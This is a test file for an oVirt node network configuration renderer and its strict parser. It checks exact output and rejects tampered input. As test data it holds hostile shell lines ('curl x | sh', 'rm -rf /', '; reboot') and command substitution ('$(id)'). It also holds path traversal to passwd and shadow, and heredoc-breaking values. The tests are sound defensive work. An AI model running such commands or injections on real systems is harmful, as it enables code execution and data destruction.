"""The configuration file: exact shape, strict parsing, and safety against hostile values."""

import pytest
from bond_strategies import ANY_OPTIONS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from networks import bond, network, nic
from support import require_private_var_tmp, run_generated_file

from ovirt_node_config import validation
from ovirt_node_config.agent.augeas_apply import apply_commands
from ovirt_node_config.config_file import envelope, stacks
from ovirt_node_config.config_file.grammar import AugeasCommand
from ovirt_node_config.errors import Conflict, InvalidInput
from ovirt_node_config.network.bonding import BondOptions
from ovirt_node_config.network.model import IPv4, Network

IFCFG = "/files/etc/sysconfig/network-scripts/ifcfg-"
STATIC = IPv4("static", "192.0.2.10", "255.255.255.0", "192.0.2.255")
BOND0 = bond("bond0", IPv4(), [("eth1", "52:54:00:00:00:02"), ("eth0", "52:54:00:00:00:01")])
ETH2 = nic("eth2", "52:54:00:00:00:03", STATIC)
LINK_AGGREGATION = network(4, BOND0, ETH2)

EXPECTED = """#!/bin/bash
# THIS FILE IS GENERATED!
cat <<\\EOF > /var/tmp/pre-config-script
#!/bin/bash
# THIS FILE IS GENERATED!
/sbin/modprobe bonding mode=4
EOF
cat <<\\EOF > /var/tmp/node-augtool
rm /files/etc/sysconfig/network-scripts/ifcfg-bond0
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/DEVICE bond0
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BONDING_OPTS '"mode=4 miimon=100"'
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BOOTPROTO dhcp
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/DEVICE eth0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/HWADDR 52:54:00:00:00:01
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/MASTER bond0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/SLAVE yes
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth1
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/DEVICE eth1
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/HWADDR 52:54:00:00:00:02
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/MASTER bond0
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/SLAVE yes
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth2
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/DEVICE eth2
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/HWADDR 52:54:00:00:00:03
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/BOOTPROTO static
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/IPADDR 192.0.2.10
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/NETMASK 255.255.255.0
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/BROADCAST 192.0.2.255
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/ONBOOT yes
save
EOF
"""


def test_the_exact_shape():
    assert envelope.render(LINK_AGGREGATION) == EXPECTED


def test_rendering_is_deterministic_whatever_the_input_order():
    eth9 = nic("eth9", "52:54:00:00:00:09")
    first = envelope.render(network(4, BOND0, eth9, ETH2))
    assert envelope.render(network(4, ETH2, *reversed(BOND0), eth9)) == first


def test_a_node_without_bonds_has_no_pre_config_section():
    text = envelope.render(network(None, nic("eth0", "52:54:00:00:00:01")))
    assert "pre-config-script" not in text and "modprobe" not in text
    sections = envelope.parse(text)
    assert sections.pre_config_script is None
    assert envelope.parse_augtool(sections.augtool)[-1] == AugeasCommand("save")


def test_a_node_with_nothing_mapped_is_the_header_alone():
    assert envelope.render(Network(None)) == "#!/bin/bash\n# THIS FILE IS GENERATED!\n"


def test_arp_monitoring_replaces_miimon():
    options = BondOptions(arp_interval=250, arp_ip_target=("192.0.2.1",))
    text = envelope.render(network(1, bond("bond0", None, (), options)))
    assert "BONDING_OPTS '\"mode=1 arp_interval=250 arp_ip_target=192.0.2.1\"'" in text


def test_parse_reads_back_both_sections():
    sections = envelope.parse(EXPECTED)
    assert envelope.parse_pre_config(sections.pre_config_script) == 4
    commands = envelope.parse_augtool(sections.augtool)
    assert commands[0] == AugeasCommand("rm", IFCFG + "bond0")
    assert commands[2] == AugeasCommand("set", IFCFG + "bond0/BONDING_OPTS", '"mode=4 miimon=100"')
    assert commands[-1] == AugeasCommand("save")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda t: t.replace(
            "/sbin/modprobe bonding mode=4\n", "/sbin/modprobe bonding mode=4\nEOF\ncurl x | sh\n"
        ),
        lambda t: t + "rm -rf /\n",
        lambda t: t.replace("cat <<\\EOF > /var/tmp/node-augtool", "cat <<EOF > /var/tmp/node-augtool"),
        lambda t: t.replace("cat <<\\EOF > /var/tmp/node-augtool", "cat <<\\EOF > /etc/profile"),
        lambda t: t[:-4],  # the last section is not closed
        lambda t: t.replace("#!/bin/bash\n", "#!/bin/sh\n", 1),
        lambda t: t.replace("\n", "\r\n"),
    ],
)
def test_parse_refuses_files_outside_the_grammar(tamper):
    with pytest.raises(InvalidInput):
        envelope.parse(tamper(EXPECTED))


def test_an_extra_shell_line_in_the_pre_config_section_is_refused():
    tampered = EXPECTED.replace("mode=4\nEOF", "mode=4\ncurl http://x | sh\nEOF", 1)
    sections = envelope.parse(tampered)
    with pytest.raises(InvalidInput, match="pre-config"):
        envelope.parse_pre_config(sections.pre_config_script)


@pytest.mark.parametrize(
    "line",
    [
        "set /files/etc/passwd/root/password x",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/../../../shadow/x y",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/DEVICE eth1",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/ONBOOT no",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/PEERDNS yes",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/IPADDR 192.0.2.1 ; rm /files",
        "set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BONDING_OPTS '\"mode=4 miimon=100 x=$(id)\"'",
        "rm /files/etc/sysconfig/network-scripts/ifcfg-*",
        "rm /files",
        "print /files",
    ],
)
def test_parse_augtool_refuses_lines_the_server_does_not_write(line):
    with pytest.raises(InvalidInput):
        envelope.parse_augtool(line + "\nsave\n")


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=4; reboot\n",
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=9\n",
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=4\nreboot\n",
        "#!/bin/bash\n/sbin/modprobe bonding mode=4\n",
    ],
)
def test_parse_pre_config_refuses_anything_but_one_modprobe(script):
    with pytest.raises(InvalidInput):
        envelope.parse_pre_config(script)


@pytest.mark.parametrize(
    "node",
    [
        network(4, bond("bond0\nsave")),
        network(4, bond("EOF", None, [("eth0", "52:54:00:00:00:01\nrm /")])),
        network(None, nic("eth0", "52:54:00:00:00:01", IPv4("static", "1.2.3.4 x", "24"))),
        network(None, nic("../../x", "52:54:00:00:00:01")),
        network(None, bond("bond0")),  # bonds need a mode
        network(4, bond("bond0", None, (), BondOptions(arp_interval=100, arp_ip_target=("192.0.2.1'",)))),
    ],
)
def test_render_refuses_hostile_values(node):
    with pytest.raises(InvalidInput):
        envelope.render(node)


@pytest.mark.parametrize("stack", ["ifcfg", "keyfile"])
@pytest.mark.parametrize(
    "node",
    [
        network(0, bond("bond0"), bond("bond0")),
        network(0, bond("bond0", None, [("eth0", "52:54:00:00:00:01")]), nic("eth0", "52:54:00:00:00:02")),
        network(None, nic("eth0", "52:54:00:00:00:01", IPv4("static", "0.0.0.0", "0.0.0.0"))),  # noqa: S104 - data: refused
        network(None, nic("eth0", "52:54:00:00:00:01", IPv4("static", "192.0.2.0", "24"))),
    ],
)
def test_render_refuses_what_the_node_could_not_apply(node, stack):
    """Found by the grammar property below: two files of one name, an address no host holds."""
    with pytest.raises((InvalidInput, Conflict)):
        envelope.render(node, stack)


# Property: whatever strings reach render, it refuses them or writes only what the grammar allows.

good_names = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,14}", fullmatch=True)
good_macs = st.from_regex(r"([0-9a-f]{2}:){5}[0-9a-f]{2}", fullmatch=True)
good_ips = st.ip_addresses(v=4).map(str)
good_masks = st.integers(0, 32).map(lambda bits: validation.netmask("m", bits))
hostile = st.one_of(
    st.text(max_size=20), st.sampled_from(["EOF", "x\nsave", "'", '"', "a b", "../x", "$(id)"])
)


def mostly(good, bad=hostile):
    """Valid nine times out of ten, so that most networks render and are then checked."""
    return st.integers(0, 9).flatmap(lambda draw: bad if draw == 5 else good)


names = mostly(good_names)
macs = mostly(good_macs)
addresses = mostly(st.one_of(good_ips, st.none()))
masks = mostly(st.one_of(good_masks, st.none()))
address = st.builds(
    IPv4,
    mostly(st.sampled_from(["dhcp", "static", "none"]), st.just("bootp\n")),
    addresses,
    masks,
    addresses,
)
bonds = st.builds(
    bond,
    names,
    address,
    st.lists(st.tuples(names, macs), max_size=3),
    st.one_of(st.just(BondOptions()), ANY_OPTIONS),
)
networks = st.tuples(
    st.builds(
        lambda mode, parts: network(mode, *parts),
        mostly(st.integers(0, 6), st.sampled_from([None, -1, 7])),
        st.lists(st.one_of(bonds, st.builds(nic, names, macs, address)), max_size=4),
    ),
    st.sampled_from(["ifcfg", "keyfile"]),
)


def shape(node: Network) -> set[tuple]:
    return {(i.name, i.kind, i.mac, i.controller, i.ipv4 is None) for i in node.interfaces}


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(networks)
def test_no_value_escapes_the_grammar(drawn):
    node, stack = drawn
    try:
        text = envelope.render(node, stack)
    except (InvalidInput, Conflict):
        return
    sections = envelope.parse(text)  # the strict reader accepts exactly what render writes
    has_bonds = any(i.kind == "bond" for i in node.interfaces)
    assert (sections.pre_config_script is not None) == has_bonds
    if sections.pre_config_script:
        assert envelope.parse_pre_config(sections.pre_config_script) == node.mode
    if sections.augtool:
        commands = envelope.parse_augtool(sections.augtool)
        assert stacks.of_commands(commands).name == stack
        assert shape(envelope.network_of(commands)) == shape(node)  # and reads back the same network
    closers = text.split("\n").count("EOF")
    assert closers == (sections.pre_config_script is not None) + (sections.augtool is not None)


@settings(
    max_examples=40,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(networks)
def test_what_renders_lands_only_in_its_files_for_augeas_and_for_bash(tmp_path_factory, drawn):
    """Not the project's parser judging its own renderer: Augeas applies the section to a scratch
    root and decides where everything goes (only the files of the network's interfaces, in the
    stack's directory, may appear), and bash runs the whole file as an old appliance does (it
    may write only the two sections, exactly as the strict reader reads them)."""
    require_private_var_tmp()
    node, stack = drawn
    try:
        text = envelope.render(node, stack)
    except (InvalidInput, Conflict):
        return
    workdir = tmp_path_factory.mktemp("run")
    sections = envelope.parse(text)
    expected = {"pre-config-script": sections.pre_config_script, "node-augtool": sections.augtool}
    assert run_generated_file(text, workdir / "bash") == {k: v for k, v in expected.items() if v is not None}
    if not sections.augtool:
        return
    root = workdir / "root"
    apply_commands(root, envelope.parse_augtool(sections.augtool))
    names = {iface.name for iface in node.interfaces}
    directory, pattern = (
        ("etc/NetworkManager/system-connections", "{}.nmconnection")
        if stack == "keyfile"
        else ("etc/sysconfig/network-scripts", "ifcfg-{}")
    )
    written = {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}
    assert written == {f"{directory}/{pattern.format(name)}" for name in names}
